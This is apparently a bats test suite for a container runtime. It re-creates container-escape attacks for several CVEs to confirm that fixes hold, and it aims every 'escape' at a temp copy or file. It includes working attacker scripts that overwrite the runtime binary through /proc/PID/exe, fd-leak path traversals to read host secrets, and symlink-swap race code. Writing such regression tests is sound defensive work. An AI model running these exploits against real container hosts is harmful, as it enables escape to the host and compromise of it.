#!/usr/bin/env bats
# security: the container is hostile.  Each test attacks one guarantee of the
# README's Security section the way the public exploits did, as root in the
# container with the default capabilities (unless it says otherwise).  A
# successful "escape" is harmless: it lands in a copy of the runtime binary,
# in a file of the test's temp dir, or in a namespaced setting of the
# container; the host's real /proc/sys is never written.
#
# Every test fails on the code before the fix (31d48c3^), except four that
# guard what that code already did right: the container's and an exec'd
# process's fds and a startContainer hook's (every fd above the preserved
# ones was already close-on-exec), and a /dev/console that is a symlink when
# create starts (it was unlinked first; the race test below is the attack).
load helpers
load environment

setup() {
  setup_common
  PIDS=()
  REAL_OCIRUN=$OCIRUN
}

teardown() {
  local p
  for p in "${PIDS[@]}"; do
    kill -9 "$p" 2>/dev/null || true
  done
  # the attacks may have corrupted the copy: clean up with the real binary
  OCIRUN=$REAL_OCIRUN
  teardown_common
}

require_root() {
  [ "$(id -u)" -eq 0 ] || skip "needs root (the attacks run as root in the container)"
}

# use_copy: run the runtime from a copy in the test's temp dir (an escape
# overwrites the copy, not the build); sets COPY and COPY_SUM.
use_copy() {
  COPY="$TEST_TMP/ocirun-copy"
  cp "$REAL_OCIRUN" "$COPY"
  chmod 755 "$COPY"
  COPY_SUM=$(sha256sum < "$COPY")
  OCIRUN=$COPY
}

assert_copy_intact() {
  local now
  now=$(sha256sum < "$COPY")
  if [ "$now" != "$COPY_SUM" ]; then
    echo "the runtime binary was written from the container: $(head -c 64 "$COPY" | tr -c '[:print:]' .)" >&2
    return 1
  fi
}

# track PID: killed (SIGKILL) in teardown
track() {
  [[ "$1" =~ ^[0-9]+$ ]] && [ "$1" -gt 1 ] || { echo "track: bad pid '$1'" >&2; return 1; }
  PIDS+=("$1")
}

# set_script SCRIPT: process.args = sh -c SCRIPT
set_script() {
  set_config ".process.args = $(jq -n -c --arg s "$1" '["sh", "-c", $s]')"
}

# second_bundle DIR: another bundle with the same rootfs and config
second_bundle() {
  mkdir -p "$1"
  cp -a "$BUNDLE/rootfs" "$1/rootfs"
  cp "$BUNDLE/config.json" "$1/config.json"
}

# add_runtime_libs ROOTFS: the shared libraries the runtime needs (an image
# with glibc: the runtime can run in it)
add_runtime_libs() {
  local l
  command -v ldd >/dev/null || skip "needs ldd to put the runtime's libraries in the image"
  for l in $(ldd "$REAL_OCIRUN" | grep -o '/[^ ]*'); do
    cp -L --parents "$l" "$1"
  done
}

# wait_for_file FILE PATTERN [TENTHS]: until FILE has a line matching PATTERN
wait_for_file() {
  local i
  for i in $(seq "${3:-150}"); do
    grep -qE "$2" "$1" 2>/dev/null && return 0
    sleep 0.1
  done
  return 1
}

# ---------------------------------------------------------------------------
# CVE-2019-5736 class: the runtime binary is not writable from a container.

# A busybox sh loop: write through fd 3 (a handle on some /proc/PID/exe)
# once nothing executes the file any more (ETXTBSY: retried for ~10 s).
# Prints WROTE, or why the write was refused.
WRITE_FD3='i=0
while [ $i -lt 1000 ]; do
  err=$( { echo PWNED-BY-CONTAINER > /proc/self/fd/3; } 2>&1 ) && { echo WROTE; exit 0; }
  case "$err" in
    *busy*) ;;
    *) echo "refused: $err"; exit 0 ;;
  esac
  i=$((i + 1)); usleep 10000
done
echo refused: always busy'

@test "CVE-2019-5736: a process exec'd into a created container cannot write the runtime through /proc/1/exe" {
  require_root
  use_copy
  set_args sleep 1000
  run_bg create --bundle "$BUNDLE" "$ID"
  [ "$status" -eq 0 ]
  # pid 1 of the container is the runtime waiting for `start`
  ocirun_bg exec --detach --pid-file "$TEST_TMP/attacker.pid" "$ID" sh -c '
    exec > /tmp/attack.log 2>&1
    command exec 3</proc/1/exe || { echo cannot-open; exit 0; }
    echo opened
    '"$WRITE_FD3"
  track "$(cat "$TEST_TMP/attacker.pid")"
  wait_for_file "$BUNDLE/rootfs/tmp/attack.log" . || true
  run_bg start "$ID"
  [ "$status" -eq 0 ]
  wait_for_file "$BUNDLE/rootfs/tmp/attack.log" 'WROTE|refused|cannot' || true
  cat "$BUNDLE/rootfs/tmp/attack.log"
  grep -qE 'WROTE|refused|cannot' "$BUNDLE/rootfs/tmp/attack.log"
  assert_copy_intact
}

@test "CVE-2019-5736: an entrypoint whose interpreter is #!/proc/self/exe gives a pod neighbour no writable runtime" {
  require_root
  use_copy
  # container A, the attacker: finds the runtime running as B's entrypoint
  # in the pid namespace they share, keeps a handle on its exe, lets it go
  # on (it waits on opening its --log, a fifo of B's image), and writes once
  # it has exited
  cat > "$BUNDLE/rootfs/attack.sh" <<ATTACK
exec > /tmp/attack.log 2>&1
n=0
while [ \$n -lt 3000 ]; do
  for d in /proc/[0-9]*; do
    a=; { read -r a < \$d/cmdline; } 2>/dev/null
    case "\$a" in
      /proc/self/exe--log=/fifo*) ;;
      *) continue ;;
    esac
    echo "found \$d: \$a"
    command exec 3<\$d/exe || { echo cannot-open; exit 0; }
    echo "opened \$(readlink /proc/self/fd/3)"
    command exec 4<\$d/root/fifo || echo cannot-release
    cat <&4 >/dev/null &
$WRITE_FD3
  done
  n=\$((n + 1)); usleep 10000
done
echo not-found
ATTACK
  set_args sh /attack.sh
  run_bg run --detach --bundle "$BUNDLE" "$ID-a"
  [ "$status" -eq 0 ]
  apid=$(container_pid "$ID-a")
  # container B joins A's pid namespace; its image has an entrypoint that
  # runs whatever binary executes it
  second_bundle "$TEST_TMP/b"
  printf '#!/proc/self/exe --log=/fifo\n' > "$TEST_TMP/b/rootfs/evil"
  chmod 755 "$TEST_TMP/b/rootfs/evil"
  mkfifo "$TEST_TMP/b/rootfs/fifo"
  add_runtime_libs "$TEST_TMP/b/rootfs"
  BUNDLE="$TEST_TMP/b" set_config '.process.args = ["/evil"]
    | .linux.namespaces |= map(if .type == "pid" then .path = "/proc/'"$apid"'/ns/pid" else . end)'
  run_bg run --detach --bundle "$TEST_TMP/b" "$ID-b"
  [ "$status" -eq 0 ]
  wait_for_file "$BUNDLE/rootfs/tmp/attack.log" 'WROTE|refused|cannot|not-found' || true
  cat "$BUNDLE/rootfs/tmp/attack.log"
  grep -q '^found' "$BUNDLE/rootfs/tmp/attack.log"
  assert_copy_intact
}

# A busybox sh attacker for a container sharing the host's pid namespace: it
# scans the host's processes for the runtime (argv[0] is $COPY: only this
# test's), keeps a handle on the exe of the first one it may open (the host
# file or a memfd copy), then writes through it.  It stops looking when
# /tmp/stop appears.
HOSTPID_ATTACK='exec > /tmp/attack.log 2>&1
echo looking
while [ ! -e /tmp/stop ]; do
  for d in /proc/[0-9]*; do
    a=; { read -r a < $d/cmdline; } 2>/dev/null
    case "$a" in "$COPY"*) ;; *) continue ;; esac
    { command exec 3<$d/exe; } 2>/dev/null || continue
    t=$(readlink /proc/self/fd/3)
    case "$t" in "$COPY"|/memfd:*) ;; *) exec 3<&-; continue ;; esac
    echo "found $d: $a"
    echo "opened $t"
    '"$WRITE_FD3"'
  done
done
echo not-found'

# The same attacker, fast enough to catch a short-lived process: it keeps
# opening the exe of the newest process of the host (the last field of
# /proc/loadavg, read without forking) until it is the runtime.
EXEC_RACE_ATTACK='exec > /tmp/attack.log 2>&1
echo looking
while [ ! -e /tmp/stop ]; do
  read x x x x last < /proc/loadavg
  { command exec 3</proc/$last/exe; } 2>/dev/null || continue
  t=$(readlink /proc/self/fd/3)
  case "$t" in "$COPY"|/memfd:*) ;; *) exec 3<&-; continue ;; esac
  echo "found /proc/$last"
  echo "opened $t"
  '"$WRITE_FD3"'
done
echo not-found'

# no_pid_ns: the config shares the host's pid namespace
no_pid_ns() {
  set_config '.linux.namespaces |= map(select(.type != "pid"))'
}

@test "CVE-2019-5736: a container in the host pid namespace cannot write the runtime through another container's waiting init" {
  require_root
  use_copy
  no_pid_ns
  set_config ".process.env += [\"COPY=$COPY\"]"
  second_bundle "$TEST_TMP/v"
  set_script "$HOSTPID_ATTACK"
  run_bg run --detach --bundle "$BUNDLE" "$ID-a"
  [ "$status" -eq 0 ]
  track "$(container_pid "$ID-a")"
  wait_for_file "$BUNDLE/rootfs/tmp/attack.log" looking
  # the victim: created, its init (the runtime) waits for start
  BUNDLE="$TEST_TMP/v" set_args sleep 1000
  run_bg create --bundle "$TEST_TMP/v" "$ID-v"
  [ "$status" -eq 0 ]
  sleep 1
  run_bg start "$ID-v"
  [ "$status" -eq 0 ]
  touch "$BUNDLE/rootfs/tmp/stop"
  wait_for_file "$BUNDLE/rootfs/tmp/attack.log" 'WROTE|refused|not-found' || true
  cat "$BUNDLE/rootfs/tmp/attack.log"
  grep -qE 'WROTE|refused|not-found' "$BUNDLE/rootfs/tmp/attack.log"
  assert_copy_intact
}

@test "CVE-2019-5736: a container in the host pid namespace cannot write the runtime through a concurrent exec (race)" {
  require_root
  use_copy
  no_pid_ns
  set_config ".process.env += [\"COPY=$COPY\"]"
  set_script "$EXEC_RACE_ATTACK"
  run_bg run --detach --bundle "$BUNDLE" "$ID"
  [ "$status" -eq 0 ]
  track "$(container_pid "$ID")"
  wait_for_file "$BUNDLE/rootfs/tmp/attack.log" looking
  for i in $(seq 200); do
    ocirun exec "$ID" true </dev/null >/dev/null 2>&1 || true
    grep -q '^found' "$BUNDLE/rootfs/tmp/attack.log" && break
  done
  echo "execs: $i"
  touch "$BUNDLE/rootfs/tmp/stop"
  wait_for_file "$BUNDLE/rootfs/tmp/attack.log" 'WROTE|refused|not-found' || true
  cat "$BUNDLE/rootfs/tmp/attack.log"
  grep -qE 'WROTE|refused|not-found' "$BUNDLE/rootfs/tmp/attack.log"
  assert_copy_intact
}

@test "CVE-2019-5736: with CAP_SYS_PTRACE, /proc/1/exe of a created container is a sealed copy, not the runtime's file" {
  require_root
  use_copy
  # a process allowed to look at the waiting init despite its being
  # non-dumpable: what it reaches must still not be the host's file
  set_config '.process.capabilities |= with_entries(.value += ["CAP_SYS_PTRACE"])'
  set_args sleep 1000
  run_bg create --bundle "$BUNDLE" "$ID"
  [ "$status" -eq 0 ]
  ocirun_bg exec --detach --pid-file "$TEST_TMP/attacker.pid" "$ID" sh -c '
    exec > /tmp/attack.log 2>&1
    command exec 3</proc/1/exe || { echo cannot-open; exit 0; }
    echo "opened $(readlink /proc/self/fd/3)"
    '"$WRITE_FD3"
  track "$(cat "$TEST_TMP/attacker.pid")"
  wait_for_file "$BUNDLE/rootfs/tmp/attack.log" . || true
  run_bg start "$ID"
  [ "$status" -eq 0 ]
  wait_for_file "$BUNDLE/rootfs/tmp/attack.log" 'WROTE|refused|cannot' || true
  cat "$BUNDLE/rootfs/tmp/attack.log"
  grep -qE 'WROTE|refused|cannot' "$BUNDLE/rootfs/tmp/attack.log"
  assert_copy_intact
}

# ---------------------------------------------------------------------------
# CVE-2024-21626 class: no runtime fd or directory reaches the container.

# make_secret: a host file the container must never read; sets SECRET
# (its content) and SECRET_PATH
make_secret() {
  SECRET="host-secret-$RANDOM$RANDOM$RANDOM"
  SECRET_PATH="$TEST_TMP/secret"
  echo "$SECRET" > "$SECRET_PATH"
  UP=$(printf '../%.0s' $(seq 30))
}

@test "CVE-2024-21626: exec --cwd /proc/self/fd/N never leads out of the container" {
  require_root
  make_secret
  set_args sleep 1000
  run_bg run --detach --bundle "$BUNDLE" "$ID"
  [ "$status" -eq 0 ]
  leaked=
  for n in $(seq 3 20); do
    run ocirun exec --cwd "/proc/self/fd/$n" "$ID" cat "$UP${SECRET_PATH#/}"
    echo "fd $n: status $status: $output"
    [[ "$output" != *"$SECRET"* ]] || leaked+=" $n"
  done
  [ -z "$leaked" ] || { echo "the host secret leaked through fd$leaked" >&2; return 1; }
}

@test "CVE-2024-21626: process.cwd /proc/self/fd/N never leads out of the container" {
  require_root
  make_secret
  leaked=
  for n in $(seq 3 20); do
    set_config ".process.cwd = \"/proc/self/fd/$n\""
    set_args cat "$UP${SECRET_PATH#/}"
    # whatever directory the runtime holds, and one its caller leaked
    # (not passed with --preserve-fds)
    run ocirun run --bundle "$BUNDLE" "$ID-$n" 15<"$TEST_TMP"
    echo "fd $n: status $status: $output"
    [[ "$output" != *"$SECRET"* ]] || leaked+=" $n"
  done
  [ -z "$leaked" ] || { echo "the host secret leaked through fd$leaked" >&2; return 1; }
}

# `ls /proc/self/fd` as a process sees it: its own directory fd is the
# lowest free one, so a process with nothing but stdio (and N preserved fds)
# lists 0 1 2 and then ls's own fd: "0 1 2 3" (N=0), "0 1 2 3 4" (N=1)
expected_fds() {
  seq 0 $((3 + ${1:-0})) | tr '\n' ' ' | sed 's/ $//'
}
LIST_FDS='echo $(ls /proc/self/fd)'

@test "CVE-2024-21626: the container's process gets only stdio and --preserve-fds, whatever its caller leaks" {
  require_root
  set_script "$LIST_FDS"
  # fd 3 is passed on purpose; 9 (a host directory) is a caller's leak
  run ocirun run --preserve-fds 1 --bundle "$BUNDLE" "$ID" 3</dev/null 9<"$TEST_TMP"
  echo "$output"
  [ "$status" -eq 0 ]
  [ "${lines[-1]}" = "$(expected_fds 1)" ]
}

@test "CVE-2024-21626: an exec'd process gets only stdio and --preserve-fds, whatever its caller leaks" {
  require_root
  set_args sleep 1000
  run_bg run --detach --bundle "$BUNDLE" "$ID"
  [ "$status" -eq 0 ]
  run ocirun exec --preserve-fds 1 "$ID" sh -c "$LIST_FDS" 3</dev/null 9<"$TEST_TMP"
  echo "$output"
  [ "$status" -eq 0 ]
  [ "${lines[-1]}" = "$(expected_fds 1)" ]
}

# hook NAME SCRIPT: a hook object running /bin/sh -c SCRIPT NAME
hook() {
  jq -n -c --arg name "$1" --arg script "$2" '{path: "/bin/sh", args: ["sh", "-c", $script, $name]}'
}

@test "CVE-2024-21626: a createContainer hook (in the container's namespaces) gets no fd of the runtime or its caller" {
  require_root
  # the hook runs the host's /bin/sh before pivot_root: it can log to a host path
  set_config ".hooks.createContainer = [$(hook createContainer "$LIST_FDS > $TEST_TMP/hook.fds")]"
  set_args true
  run ocirun run --bundle "$BUNDLE" "$ID" 9<"$TEST_TMP"
  [ "$status" -eq 0 ]
  cat "$TEST_TMP/hook.fds"
  [ "$(cat "$TEST_TMP/hook.fds")" = "$(expected_fds)" ]
}

@test "CVE-2024-21626: a startContainer hook gets no fd of the runtime or its caller" {
  require_root
  set_config ".hooks.startContainer = [$(hook startContainer "$LIST_FDS > /hook.fds")]"
  set_args true
  run ocirun run --bundle "$BUNDLE" "$ID" 9<"$TEST_TMP"
  [ "$status" -eq 0 ]
  cat "$BUNDLE/rootfs/hook.fds"
  [ "$(cat "$BUNDLE/rootfs/hook.fds")" = "$(expected_fds)" ]
}

@test "CVE-2024-21626: a process exec'd into a created container cannot reach the host through the waiting init's fds" {
  require_root
  make_secret
  set_args sleep 1000
  # the caller leaks a host directory to the runtime (fd 9, not preserved)
  ocirun create --bundle "$BUNDLE" "$ID" </dev/null >>"$TEST_TMP/bg.out" 2>&1 9<"$TEST_TMP"
  run ocirun exec "$ID" sh -c 'ls -l /proc/1/fd/ 2>&1; for f in /proc/1/fd/* /proc/1/cwd /proc/1/root; do cat "$f/secret" 2>/dev/null; done; true'
  echo "$output"
  [[ "$output" != *"$SECRET"* ]]
}

# ---------------------------------------------------------------------------
# CVE-2025-31133 class: masked paths cannot be redirected.

# use_dev_volume: /dev is a bind of $DEVVOL, a host directory the attacker
# controls (a volume shared with another container); $DEVVOL/leak is a
# harmless host file that a redirected mask would expose
use_dev_volume() {
  DEVVOL="$TEST_TMP/devvol"
  mkdir -p "$DEVVOL"
  echo leak-content > "$DEVVOL/leak"
  chmod 644 "$DEVVOL/leak"
  set_config ".mounts |= map(if .destination == \"/dev\" then
    {destination: \"/dev\", type: \"bind\", source: \"$DEVVOL\", options: [\"rbind\"]} else . end)"
}

# the masked files of the default config that this kernel has
MASKED_FILES="/proc/keys /proc/timer_list /proc/kcore /proc/latency_stats /proc/sched_debug /proc/timer_stats"

# A busybox sh check, in the container: each masked file that exists is the
# null device (char 1:3) on a read-only mount, each masked directory an empty
# read-only one; prints BAD lines otherwise
CHECK_MASKS='for f in '"$MASKED_FILES"'; do
  [ -e $f ] || continue
  t=$(stat -c %t:%T $f)
  o=$(awk -v d=$f '"'"'$5 == d { o = $6 } END { print o }'"'"' /proc/self/mountinfo)
  echo "$f $t $o"
  [ "$t" = 1:3 ] || echo "BAD $f is not the null device"
  case ",$o," in *,ro,*) ;; *) echo "BAD $f is not read-only" ;; esac
done
for f in /proc/acpi /proc/scsi /sys/firmware; do
  [ -d $f ] || continue
  o=$(awk -v d=$f '"'"'$5 == d { o = $6 } END { print o }'"'"' /proc/self/mountinfo)
  echo "$f $(ls -A $f | wc -l) $o"
  [ -z "$(ls -A $f)" ] || echo "BAD $f is not empty"
  case ",$o," in *,ro,*) ;; *) echo "BAD $f is not read-only" ;; esac
done'

@test "CVE-2025-31133: with a /dev volume whose null is a symlink, masked files are the read-only null device" {
  require_root
  use_dev_volume
  ln -s leak "$DEVVOL/null"
  set_script "$CHECK_MASKS; echo pwned > /proc/keys; cat /proc/keys"
  run ocirun run --bundle "$BUNDLE" "$ID"
  echo "$output"
  [ "$status" -eq 0 ]
  [[ "$output" == *"/proc/keys 1:3"* ]]
  [[ "$output" != *BAD* ]]
  [[ "$output" != *leak-content* ]]
  [ "$(cat "$DEVVOL/leak")" = leak-content ]
}

@test "CVE-2025-31133: a mask below a read-only path, or on one, stays read-only whatever the order" {
  require_root
  set_config '.linux.readonlyPaths = ["/proc/sys", "/proc/bus"]
    | .linux.maskedPaths = ["/proc/sys/kernel/domainname", "/proc/bus", "/proc/keys", "/proc/sys/fs/binfmt_misc"]'
  run_container sh -c 'awk "\$5 ~ /^\/proc\/(sys|bus|keys)/ { print \$5, \$6 }" /proc/self/mountinfo'
  echo "$output"
  [ "$status" -eq 0 ]
  [[ "$output" == *"/proc/sys/kernel/domainname "* ]]
  [[ "$output" == *"/proc/keys "* ]]
  # every mount at or below a masked or read-only path is read-only
  ! echo "$output" | grep '^/proc/' | awk '{ print $2 }' | grep -qv '^ro,'
  # the other order: the read-only path listed first, then masks inside it
  set_config '.linux.maskedPaths = ["/proc/sys/kernel/domainname", "/proc/keys"]
    | .linux.readonlyPaths = ["/proc/sys/kernel", "/proc/keys", "/proc/sys"]'
  run_container sh -c 'awk "\$5 ~ /^\/proc\/(sys|keys)/ { print \$5, \$6 }" /proc/self/mountinfo'
  echo "$output"
  [ "$status" -eq 0 ]
  [[ "$output" == *"/proc/sys/kernel/domainname "* ]]
  ! echo "$output" | grep '^/proc/' | awk '{ print $2 }' | grep -qv '^ro,'
}

# start_flipper DIR NAME MODE: a host process (another container sharing the
# volume) that keeps swapping DIR/NAME, atomically (rename), for a symlink to
# DIR/leak: in MODE "null" it alternates with the real null device, in MODE
# "symlink" it puts a fresh symlink there again and again (whatever the
# runtime replaced it with).  Sets FLIPPER; stops when DIR/.stop appears.
start_flipper() {
  python3 - "$@" <<'PY' &
import ctypes, os, sys, time
d, name, mode = sys.argv[1:4]
libc = ctypes.CDLL(None, use_errno=True)
n, l, t = (os.path.join(d, x).encode() for x in (name, ".flip-l", ".flip-n"))
stop = os.path.join(d, ".stop")
i = 0
while not (i % 1000 == 0 and (os.path.exists(stop) or not os.path.isdir(d))):
    i += 1
    libc.symlink(b"leak", l)
    libc.rename(l, n)
    if mode == "null":
        libc.mknod(t, 0o20666, os.makedev(1, 3))
        libc.rename(t, n)
        # leave the runtime's own mknod a chance to succeed
        time.sleep(0.0001)
PY
  FLIPPER=$!
  track "$FLIPPER"
}

stop_flipper() {
  touch "$1/.stop"
  wait "$FLIPPER" || true
}

@test "CVE-2025-31133: a /dev/null swapped for a symlink during create never ends up on a masked path (race)" {
  require_root
  require_python
  use_dev_volume
  start_flipper "$DEVVOL" null null
  bad=
  ok=0
  for i in $(seq 200); do
    if ocirun create --pid-file "$TEST_TMP/pid" --bundle "$BUNDLE" "$ID-$i" </dev/null >>"$TEST_TMP/bg.out" 2>&1; then
      ok=$((ok + 1))
      root=/proc/$(cat "$TEST_TMP/pid")/root
      # the container's view of each masked file: the null device, 1:3
      for t in $(cd "$root" && stat -c %n=%t:%T ${MASKED_FILES//\/proc/proc} 2>/dev/null); do
        [ "${t#*=}" = 1:3 ] || bad+=" $ID-$i:$t"
      done
    fi
    ocirun delete --force "$ID-$i" >/dev/null 2>&1 || true
    [ -z "$bad" ] || break
  done
  stop_flipper "$DEVVOL"
  echo "created: $ok of $i; redirected masks:${bad:- none}"
  grep -v warning: "$TEST_TMP/bg.out" | sort | uniq -c
  [ -z "$bad" ]
  [ "$ok" -gt 0 ]
  [ "$(cat "$DEVVOL/leak")" = leak-content ]
}

# ---------------------------------------------------------------------------
# CVE-2025-52565 class: /dev/console is the container's pty.

@test "CVE-2025-52565: with a /dev volume whose console is a symlink, the pty is bound on /dev/console itself" {
  require_root
  use_dev_volume
  ln -s leak "$DEVVOL/console"
  chmod 640 "$DEVVOL/leak"
  set_config '.process.terminal = true'
  set_script 'stat -c "%n %t" /dev/console; awk "\$5 == \"/dev/leak\" { print \"MOUNTED\", \$5 }" /proc/self/mountinfo; cat /dev/leak'
  run ocirun run --bundle "$BUNDLE" "$ID"
  echo "$output"
  [ "$status" -eq 0 ]
  # a pty (major 136 = 0x88) on /dev/console, nothing on the link's target
  [[ "$output" == *"/dev/console 88"* ]]
  [[ "$output" != *MOUNTED* ]]
  [[ "$output" == *leak-content* ]]
  [ "$(cat "$DEVVOL/leak")" = leak-content ]
  [ "$(stat -c %a "$DEVVOL/leak")" = 640 ]
}

@test "CVE-2025-52565: a /dev/console swapped for a symlink during create never gets the pty bound on the link's target (race)" {
  require_root
  require_python
  use_dev_volume
  chmod 640 "$DEVVOL/leak"
  set_config '.process.terminal = true'
  set_script 'awk "\$5 == \"/dev/leak\" { print \"MOUNTED\", \$5 }" /proc/self/mountinfo; echo checked'
  start_flipper "$DEVVOL" console symlink
  bad=
  ok=0
  for i in $(seq 200); do
    out=$(ocirun run --bundle "$BUNDLE" "$ID-$i" </dev/null 2>&1) || true
    [[ "$out" != *checked* ]] || ok=$((ok + 1))
    [[ "$out" != *MOUNTED* ]] || { bad="$ID-$i"; break; }
  done
  stop_flipper "$DEVVOL"
  echo "ran: $ok of $i; pty bound on /dev/leak in: ${bad:-none}"
  [ -z "$bad" ]
  [ "$ok" -gt 0 ]
  [ "$(cat "$DEVVOL/leak")" = leak-content ]
  [ "$(stat -c %a "$DEVVOL/leak")" = 640 ]
}

# ---------------------------------------------------------------------------
# CVE-2025-52881 class: writes to /proc cannot be redirected.

@test "CVE-2025-52881: a sysctl is not redirected by a volume on /proc/sys/net holding a symlink" {
  require_root
  command -v nsenter >/dev/null || skip "needs nsenter (util-linux)"
  # the volume's ipv4/ip_forward leads to a plain file of the volume
  NETVOL="$TEST_TMP/netvol"
  mkdir -p "$NETVOL/ipv4"
  echo 0 > "$NETVOL/captured"
  ln -s ../captured "$NETVOL/ipv4/ip_forward"
  set_config ".mounts += [{destination: \"/proc/sys/net\", type: \"bind\", source: \"$NETVOL\", options: [\"rbind\"]}]
    | .linux.sysctl = {\"net.ipv4.ip_forward\": \"1\"}"
  set_args sleep 1000
  run_bg create --bundle "$BUNDLE" "$ID"
  echo "$output"
  echo "the volume's file: $(cat "$NETVOL/captured")"
  [ "$(cat "$NETVOL/captured")" = 0 ]
  if [ "$status" -eq 0 ]; then
    # written where it belongs: the container's own network namespace
    pid=$(container_pid "$ID")
    [ "$(nsenter --net="/proc/$pid/ns/net" cat /proc/sys/net/ipv4/ip_forward)" = 1 ]
  else
    [[ "$output" == *net.ipv4.ip_forward* ]]
  fi
}

@test "CVE-2025-52881: a rootfs whose /proc is a symlink is refused, and nothing is mounted where it points" {
  require_root
  # the link's target exists both on the host and in the rootfs: wherever a
  # runtime would resolve it, it would find a directory to mount on
  mkdir -p "$TEST_TMP/victim" "$BUNDLE/rootfs$TEST_TMP/victim"
  rmdir "$BUNDLE/rootfs/proc"
  ln -s "$TEST_TMP/victim" "$BUNDLE/rootfs/proc"
  set_args sh -c 'grep victim /proc/self/mountinfo; true'
  run_bg create --bundle "$BUNDLE" "$ID"
  echo "$output"
  [ "$status" -ne 0 ]
  [[ "$output" == *"/proc"*symlink* ]]
  assert_nothing_left
  [ -z "$(ls -A "$TEST_TMP/victim")" ]
  [ -z "$(ls -A "$BUNDLE/rootfs$TEST_TMP/victim")" ]
}
